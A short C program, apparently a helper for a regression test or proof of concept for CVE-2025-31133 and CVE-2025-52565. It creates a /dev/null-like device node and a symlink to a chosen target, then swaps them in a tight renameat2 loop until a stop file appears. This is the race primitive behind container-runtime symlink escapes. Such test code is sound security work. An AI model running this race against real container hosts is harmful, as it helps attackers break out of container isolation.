/*
 * swap-files DIRECTORY NAME TARGET (CVE-2025-31133, CVE-2025-52565): exchanges DIRECTORY/NAME, a node like /dev/null, and a symlink to TARGET, as
 * fast as it can, until there is a file DIRECTORY/enough.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int count, char **arguments)
{
	unsigned long swaps = 0;
	if (count != 4 || chdir(arguments[1]) != 0)
		return 2;
	if (mknod(arguments[2], S_IFCHR | 0666, makedev(1, 3)) != 0 || symlink(arguments[3], "link") != 0)
		return 3;
	printf("watching\n");
	fflush(stdout);
	while (access("enough", F_OK) != 0)
		for (unsigned i = 0; i < 64; i++)
			swaps += syscall(SYS_renameat2, AT_FDCWD, arguments[2], AT_FDCWD, "link", RENAME_EXCHANGE) == 0;
	printf("tries %lu\n", swaps);
	return 0;
}
